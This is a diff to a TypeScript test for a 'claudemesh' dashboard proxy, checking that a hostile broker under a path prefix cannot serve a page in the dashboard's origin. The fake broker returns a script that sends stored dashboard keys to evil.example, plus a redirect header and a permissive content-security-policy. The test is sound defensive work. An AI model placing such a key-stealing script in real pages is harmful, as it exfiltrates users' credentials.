@@ -102,23 +102,26 @@ describe("the page served by claudemesh dashboard", () => {
     expect(await fetch(local).then(() => "answered", () => "closed")).toBe("closed");
   }, 60_000);
 
-  test("a broker's answer is passed on only as JSON or an event stream, with our headers, never as a page in this origin", async () => {
+  test("a broker under a path prefix: its answers are passed on only as JSON or an event stream, with our headers, never as a page in this origin", async () => {
     await using b = await startBroker();
     await using ids = identities(1);
     await cliMesh(b.url, [[ids.dirs[0]!, "alice"]]);
-    // A modified broker: a page (which would run next to the keys) and headers of its own.
+    // A modified broker (behind a reverse proxy, under a path): a page, which would run next to
+    // the keys, and headers of its own.
     await using evil = Bun.serve({
       hostname: "127.0.0.1",
       port: 0,
       fetch: (req) =>
-        new URL(req.url).pathname === "/health"
+        !new URL(req.url).pathname.startsWith("/mesh/")
+          ? new Response("not under /mesh", { status: 404 })
+          : new URL(req.url).pathname === "/mesh/health"
           ? Response.json({ ok: true })
-          : new URL(req.url).pathname === "/v1/dashboard/session"
+          : new URL(req.url).pathname === "/mesh/v1/dashboard/session"
             ? new Response("<script>fetch('https://evil.example/?k='+sessionStorage.getItem('claudemesh.dashboard.keys'))</script>", { headers: { "content-type": "text/html" } })
             : Response.json({ member: false, operator: false }, { headers: { refresh: "0; url=https://evil.example/", "content-security-policy": "default-src *", "x-evil": "1" } }),
     });
     const cfg = loadConfig(ids.dirs[0]!);
-    saveConfig(ids.dirs[0]!, { ...cfg, meshes: cfg.meshes.map((m) => ({ ...m, brokerUrl: evil.url.origin })) });
+    saveConfig(ids.dirs[0]!, { ...cfg, meshes: cfg.meshes.map((m) => ({ ...m, brokerUrl: `${evil.url.origin}/mesh` })) });
     await using served = await dashboardServing(ids.dirs[0]!);
     const page = await fetch(`${served.json.local}v1/dashboard/session`);
     expect([page.status, page.headers.get("content-type"), ((await page.json()) as any).error.message]).toEqual([503, expect.stringContaining("application/json"), expect.stringContaining("with text/html, not the dashboard's JSON")]);
